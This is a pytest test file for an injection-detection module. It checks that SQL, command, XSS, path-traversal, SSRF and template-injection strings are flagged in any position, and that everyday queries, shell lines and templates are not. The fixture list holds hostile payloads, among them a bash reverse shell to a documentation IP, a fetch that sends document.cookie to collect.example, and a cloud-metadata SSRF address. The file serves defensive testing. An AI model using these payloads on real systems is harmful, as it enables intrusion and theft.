"""The injection packs find an attack wherever it stands in a text, and leave its ordinary relatives alone."""

import json
from urllib.parse import quote

import pytest

from detection import Severity
from tests.unit.detection.conftest import Judge

ATTACKS = {
    "sqli": [
        "17' union all select login, pin from staff -- x",
        "4; waitfor delay '0:0:8'--",
        "1 and updatexml(1,concat(0x7e,user()),1)",
        "ann') or ('q'='q",
    ],
    "cmdi": [
        "report.txt; cat /etc/hosts",
        "10.1.1.1 | /usr/bin/id",
        "bash -i >& /dev/tcp/192.0.2.8/99 0>&1",
        "cat${IFS}/srv/keys",
    ],
    "xss": [
        "<svg onload=confirm(4)>",
        "<script>top['alert'](4)</script>",
        "fetch('//collect.example/?c='+document.cookie)",
    ],
    "path": ["../../../../srv/keys", "..%2f..%2fsrv%2fkeys", "php://filter/read=string.rot13/resource=a.php"],
    "ssrf": ["http://169.254.169.254/latest/meta-data/", "http://2130706433/", "gopher://127.0.0.1:6379/_INFO"],
    "template": ["{{9*9}}", "{{ ''.__class__.__mro__ }}", "${T(java.lang.Runtime).getRuntime()}"],
}

ORDINARY = [
    "SELECT name FROM staff WHERE city = 'Oslo' AND age > 30 ORDER BY name",
    "SELECT a FROM t UNION SELECT b FROM u ORDER BY 1",
    "find . -name '*.log' -mtime +7 -print0 | xargs -0 gzip",
    'for f in *.txt; do mv "$f" "${f%.txt}.md"; done',
    '<div class="card"><img src="a.png" alt="a"><button onclick="save()">Save</button></div>',
    "import { x } from '../../lib/x'",
    "Start the server and open http://localhost:3000/ in a browser.",
    "Dear {{ name }}, your order {{ order.id }} is on its way.",
]


@pytest.mark.parametrize(("family", "attack"), [(family, text) for family, texts in ATTACKS.items() for text in texts])
@pytest.mark.parametrize("place", ["bare", "argument", "sentence"])
def test_an_attack_is_found_wherever_it_stands(judge: Judge, family: str, attack: str, place: str) -> None:
    """
    The rules of its family find it alone, as an argument of a tool, and in the middle of a sentence.
    """
    text = {
        "bare": attack,
        "argument": json.dumps({"query": attack, "limit": 5}),
        "sentence": f"Please look up {attack} for me and tell me more.",
    }[place]

    found = [finding for finding in judge(prompt=text).findings if finding.rule_id.startswith(family)]

    assert found
    assert max(finding.severity for finding in found) >= Severity.MEDIUM


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_relatives_raise_no_alert(judge: Judge, text: str) -> None:
    """
    Queries, command lines, markup, imports and templates of everyday work stay below an alert.
    """
    findings = judge(prompt=text, response=text).findings

    assert [finding.rule_id for finding in findings if finding.severity >= Severity.MEDIUM] == []


def test_an_encoded_step_is_found_in_an_address(judge: Judge) -> None:
    """
    Percent signs that were encoded once more do not hide a step to the parent folder.
    """
    found = judge(prompt=f"https://shop.example/get?f={quote('..%2f..%2fkeys', safe='')}").findings

    assert "path-climbing" in {finding.rule_id for finding in found}
